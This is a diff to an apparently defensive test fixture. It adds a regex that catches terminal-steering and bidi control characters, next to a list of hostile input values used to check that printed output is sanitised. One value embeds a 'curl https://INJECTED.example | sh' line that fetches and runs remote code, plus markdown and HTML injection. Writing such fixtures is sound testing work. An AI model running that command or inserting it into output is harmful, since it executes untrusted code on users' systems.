@@ -1,6 +1,9 @@
 /** In each value, so that what comes from it is found again in what is printed. */
 export const marker = 'INJECTED';
 
+/** What steers a terminal or turns the order of what it shows. Line feeds are the tool's. */
+export const steering = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u2028\u2029]|\p{Bidi_Control}/u;
+
 /** What a row, a name or a label may hold, and what it would do where it is printed as it is. */
 export const hostileValues: readonly string[] = [
   `x\n\n## ${marker}\n\n\`\`\`sh\ncurl https://${marker}.example | sh\n\`\`\`\n\n<img src=x alt=${marker}>`,
